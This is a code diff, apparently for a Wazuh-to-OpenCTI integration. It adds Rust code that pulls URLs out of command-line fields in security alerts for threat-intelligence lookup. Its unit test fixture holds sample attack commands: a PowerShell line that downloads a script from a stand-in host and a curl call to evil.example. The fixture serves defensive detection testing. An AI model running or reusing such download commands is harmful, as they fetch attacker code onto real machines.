@@ -4,7 +4,7 @@ use std::collections::HashSet;
 
 use wazuh_query::alert::Alert;
 use wazuh_query::catalogue::{Catalogue, Holds, Role};
-use wazuh_query::value::read;
+use wazuh_query::value::{Reading, read};
 
 use crate::indicator::{Candidate, Key, Kind, keys_of_reading};
 use crate::store::{Worthless, WorthlessReason};
@@ -45,6 +45,11 @@ const KINDS: [Kind; 14] = [
     Kind::Mac,
     Kind::File,
 ];
+
+/// What the URLs in commands begin with.
+const SCHEMES: [&str; 3] = ["http", "https", "ftp"];
+/// So many words of a command are looked at.
+const COMMAND_WORDS: usize = 4_096;
 
 impl Default for AskOptions {
     fn default() -> Self {
@@ -113,9 +118,8 @@ pub fn ask(alert: &Alert<'_>, catalogue: &Catalogue, options: &AskOptions) -> Re
         if field.role == Role::Agent && !options.include_agents {
             continue;
         }
-        let lenient = if field.holds == Holds::Ip { Holds::IpWithPort } else { field.holds };
-        read(lenient, &leaf.text, &mut |reading| {
-            keys_of_reading(field.holds, &reading, &mut scratch, &mut |candidate, _| {
+        let mut note = |holds: Holds, written: &str, reading: &Reading<'_>| {
+            keys_of_reading(holds, reading, &mut scratch, &mut |candidate, _| {
                 let key = match candidate {
                     Candidate::Address(address) => Key::Network(address.into()),
                     Candidate::Text(kind, text) => Key::Text(kind, text.into()),
@@ -126,17 +130,45 @@ pub fn ask(alert: &Alert<'_>, catalogue: &Catalogue, options: &AskOptions) -> Re
                 asked.push(Asked {
                     value: key.to_string(),
                     key,
-                    written: leaf.text.clone().into_owned(),
+                    written: written.to_owned(),
                     field: field.path.to_string(),
                     role: field.role,
                 });
             });
-        });
+        };
+        if matches!(field.holds, Holds::CommandLine | Holds::Argument(_)) {
+            for address in addresses_of_command(&leaf.text) {
+                read(Holds::Url, address, &mut |reading| note(Holds::Url, address, &reading));
+            }
+        } else if field.uses.lookup {
+            let lenient = if field.holds == Holds::Ip { Holds::IpWithPort } else { field.holds };
+            read(lenient, &leaf.text, &mut |reading| note(field.holds, &leaf.text, &reading));
+        }
     }
     let place = |asked: &Asked| options.kinds.iter().position(|kind| *kind == asked.kind());
     asked.sort_by_key(place);
     asked.truncate(options.limit);
     if asked.is_empty() { Err(NotAsked::Nothing) } else { Ok(asked) }
+}
+
+/// The URLs in the commands of an alert and in their arguments, which [`ask`] asks about.
+pub fn addresses_in_commands<'a>(alert: &'a Alert<'_>, catalogue: &Catalogue) -> Vec<&'a str> {
+    let is_command = |field: Holds| matches!(field, Holds::CommandLine | Holds::Argument(_));
+    let leaves = alert.leaves.iter().filter(|leaf| is_command(catalogue.field(leaf.field).holds));
+    leaves.flat_map(|leaf| addresses_of_command(&leaf.text)).collect()
+}
+
+/// The URLs in a command or in one of its arguments, up to what cannot stand in one.
+fn addresses_of_command(text: &str) -> impl Iterator<Item = &str> {
+    let ends = |char: char| char.is_whitespace() || char.is_control() || "\"'`<>|\\^{}".contains(char);
+    let words = text.split(ends).take(COMMAND_WORDS);
+    words.filter_map(|word| {
+        let scheme = word.find("://")?;
+        let start = word.get(..scheme)?.rfind(|char: char| !char.is_ascii_alphabetic()).map_or(0, |place| place + 1);
+        let known = |scheme: &str| SCHEMES.iter().any(|known| known.eq_ignore_ascii_case(scheme));
+        let address = word.get(start..)?.trim_end_matches([')', ']', ',', ';', '.']);
+        known(word.get(start..scheme)?).then_some(address)
+    })
 }
 
 /// Alerts that this integration raised: they repeat the values of the alert before, and would go round for ever.
@@ -220,6 +252,15 @@ mod tests {
         assert_eq!(asked(own, &AskOptions::default()), Err(NotAsked::Own));
         let by_location = r#"{"rule":{"id":"1"},"location":"opencti","data":{"srcip":"203.0.113.7"}}"#;
         assert_eq!(asked(by_location, &AskOptions::default()), Err(NotAsked::Own));
+    }
+
+    #[test]
+    fn urls_in_commands_are_asked_about() {
+        let text = r#"{"rule":{"id":"1"},"data":{"audit":{"execve":{"a0":"curl","a1":"--url=https://evil.example/a?b=1"}},
+            "win":{"eventdata":{"commandLine":"powershell -c \\\"(New-Object Net.WebClient).DownloadString('http://203.0.113.7/x.ps1');\\\" git@host://x"}}}}"#;
+        let values = asked(text, &AskOptions::default()).unwrap();
+        let wanted = ["https://evil.example/a?b=1", "http://203.0.113.7/x.ps1", "evil.example", "203.0.113.7"];
+        assert_eq!(values, wanted);
     }
 
     #[test]
